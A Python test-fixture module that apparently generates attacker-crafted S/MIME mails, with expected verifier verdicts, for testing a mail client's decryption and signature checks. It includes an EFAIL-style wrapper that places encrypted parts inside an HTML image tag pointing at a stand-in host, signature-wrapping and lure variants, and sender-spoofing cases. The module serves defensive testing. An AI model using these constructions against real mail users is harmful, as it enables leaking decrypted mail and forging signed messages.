"""Mails whose signed or encrypted part is not the whole of them, as an attacker builds them."""

import base64

import identities

ALICE, BOB, MALLORY = "alice@corpus.example", "bob@corpus.example", "mallory@corpus.example"
ENTITY = b"Content-Type: text/plain\r\n\r\nPlease pay nothing to anybody.\r\n"
FORWARDED_CLOSED = "in a message that is encrypted"
LURE = b"Content-Type: text/html\r\n\r\n<b>Please pay a million.</b>\r\n"


class People:
    """Alice, Bob and Mallory under one root, and Eve under another."""

    def __init__(self, directory):
        self.directory = directory
        self.root = identities.make_root(directory)
        self.alice, self.bob, self.mallory = (
            identities.make(directory, name, address) for name, address in
            (("alice", ALICE), ("bob", BOB), ("mallory", MALLORY)))
        elsewhere = directory / "elsewhere"
        identities.make_root(elsewhere)
        self.eve = identities.make(elsewhere, "eve", ALICE)

    def openssl(self, octets, *arguments):
        return identities.openssl(*arguments, stdin=octets)

    def sign(self, entity, *signers, detached=True):
        """A MIME entity, as OpenSSL writes it: its own header fields and lines in CRLF."""
        who = [a for s in signers for a in ("-signer", s.certificate, "-inkey", s.key)]
        form = [] if detached else ["-nodetach"]
        signed = self.openssl(entity, "cms", "-sign", "-binary", *form, *who, "-crlfeol")
        signed = signed.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        return signed.removeprefix(b"MIME-Version: 1.0\r\n")

    def signature(self, entity, signer, content=True):
        """A bare SignedData."""
        form = ["-nodetach"] if content else []
        return self.openssl(entity, "cms", "-sign", "-binary", *form, "-outform", "DER",
                            "-signer", signer.certificate, "-inkey", signer.key)


def mail(entity, sender=ALICE, more=b""):
    return (f"From: {sender}\r\nTo: {BOB}\r\nSubject: s\r\n".encode() + more
            + b"MIME-Version: 1.0\r\n" + entity)


def multipart(kind, *parts, boundary=b"covert"):
    inside = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return (b"Content-Type: multipart/" + kind + b"; boundary=\"" + boundary + b"\"\r\n\r\n"
            + inside + b"--" + boundary + b"--\r\n")


def rfc822(entity):
    return b"Content-Type: message/rfc822\r\n\r\n" + mail(entity, MALLORY)


def attachment(part):
    head, body = part.split(b"\r\n\r\n", 1)
    return (b"Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n"
            b"Content-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\r\n" + body)


def encrypted_below(part, people):
    """Name and mail: `part`, which is encrypted to the reader, somewhere below the root."""
    opening = b"Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/"
    closing = b"Content-Type: text/html\r\n\r\n\">"
    tree = multipart(b"mixed", opening, part, closing)
    x_form = part.replace(b"application/pkcs7-mime", b"application/x-pkcs7-mime")
    deep = part
    for level in range(9):
        deep = multipart(b"mixed", deep, boundary=b"level%d" % level)
    yield "between two clear HTML parts", mail(tree, MALLORY)
    yield "in multipart/mixed, alone", mail(multipart(b"mixed", part), MALLORY)
    yield "beside a text", mail(multipart(b"mixed", ENTITY, part), MALLORY)
    yield "in multipart/alternative", mail(multipart(b"alternative", ENTITY, part), MALLORY)
    yield "in multipart/related", mail(multipart(b"related", opening, x_form, closing), MALLORY)
    yield "as an attachment", mail(multipart(b"mixed", ENTITY, attachment(part)), MALLORY)
    yield "nine levels down", mail(deep, MALLORY)
    yield "in a forwarded message", mail(rfc822(part), MALLORY)
    yield "in a forwarded message, attached", mail(
        multipart(b"mixed", ENTITY, rfc822(part)), MALLORY)
    yield "in a signed tree", mail(people.sign(tree, people.mallory), MALLORY)
    yield "in a signed tree, opaque", mail(
        people.sign(tree, people.mallory, detached=False), MALLORY)
    yield "in a tree that is encrypted", mail(enveloped(people, tree), MALLORY)
    yield FORWARDED_CLOSED, mail(enveloped(people, rfc822(part)), MALLORY)


def enveloped(people, entity):
    """Encrypted to Bob by Mallory, so that her tree is inside a layer."""
    octets = people.openssl(entity, "cms", "-encrypt", "-binary", "-aes-256-cbc", "-outform",
                            "DER", people.bob.certificate)
    return entity_of(octets, "enveloped-data")


def signatures(people):
    """Name, mail, and the verdicts that will do."""
    signed = people.sign(ENTITY, people.alice)
    boundary = signed.split(b"boundary=\"", 1)[1].split(b"\"", 1)[0]
    delimiter = b"--" + boundary
    head, first, second, _ = signed.split(delimiter, 3)
    opaque = people.sign(ENTITY, people.alice, detached=False)

    def apart(*parts):
        return head + b"".join(delimiter + part for part in parts) + delimiter + b"--\r\n"

    yield "(signed as it should be)", mail(signed), {"valid"}
    yield "(signed as it should be, opaque)", mail(opaque), {"valid"}
    below = {"not-root"}
    yield "signed below a lure", mail(multipart(b"mixed", LURE, signed)), below
    yield "signed below a lure, opaque", mail(multipart(b"mixed", LURE, opaque)), below
    yield "signed, and a lure after it", mail(multipart(b"mixed", signed, LURE)), below
    yield "signed in an alternative", mail(multipart(b"alternative", signed, LURE)), below
    yield "signed, shown by reference", mail(multipart(b"related", LURE, signed)), below
    yield "signed and forwarded", mail(rfc822(signed)), below
    yield "signed, forwarded, attached", mail(multipart(b"mixed", LURE, rfc822(signed))), below
    broken = {"malformed", "invalid", "not-root", "ambiguous-content"}
    yield "wrapped: lure before the signed part", mail(
        apart(b"\r\n" + LURE + b"\r\n", first, second)), broken
    yield "wrapped: lure after the signature", mail(
        apart(first, second, b"\r\n" + LURE + b"\r\n")), broken
    yield "wrapped: signed part inside a lure", mail(apart(
        b"\r\n" + multipart(b"mixed", LURE, ENTITY) + b"\r\n", second)), broken
    yield "wrapped: no signed part", mail(apart(second)), broken
    yield "wrapped: parts swapped", mail(apart(second, first)), broken
    yield "changed", mail(signed.replace(b"nothing", b"a cent!")), {"invalid"}
    yield "another letter case of a header field inside", mail(
        signed.replace(b"text/plain", b"text/Plain")), {"invalid"}

    ambiguous = {"ambiguous-content"}
    for name, content, states in (("another", LURE, ambiguous | {"invalid"}),
                                  ("the same", ENTITY, ambiguous)):
        beside = people.signature(content, people.alice)
        yield f"eContent beside detached content: {name}", mail(
            apart(first, part_of(beside))), states
    whose = {"signer-mismatch", "conflicting-signers"}
    yield "signed by somebody else", mail(people.sign(ENTITY, people.mallory)), whose
    yield "a name that is an address", mail(
        people.sign(ENTITY, people.mallory), f"\"{ALICE}\" <{MALLORY}>"), {"valid"}
    yield "a comment that is the signer", mail(
        people.sign(ENTITY, people.mallory), f"{ALICE} ({MALLORY})"), whose
    yield "two From fields", mail(signed, ALICE, f"From: {MALLORY}\r\n".encode()), whose
    yield "two From fields, other order", mail(signed, MALLORY, f"From: {ALICE}\r\n".encode()), whose
    yield "two authors", mail(signed, f"{ALICE}, {MALLORY}"), whose
    yield "a group of authors", mail(signed, f"all: {ALICE}, {MALLORY};"), whose
    yield "no From", mail(signed).split(b"\r\n", 1)[1], whose
    yield "two signers, one of them not the author", mail(
        people.sign(ENTITY, people.alice, people.mallory)), {"conflicting-signers"}
    yield "signed under another root", mail(people.sign(ENTITY, people.eve)), {"untrusted"}
    yield "two signers, one of another root", mail(
        people.sign(ENTITY, people.alice, people.eve)), {"conflicting-signers"}


def part_of(signature):
    return (b"\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(signature).replace(b"\n", b"\r\n") + b"\r\n")


def entity_of(octets, smime_type):
    """A CMS object as a MIME entity."""
    return (f"Content-Type: application/pkcs7-mime; smime-type={smime_type}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n".encode()
            + base64.encodebytes(octets).replace(b"\n", b"\r\n"))
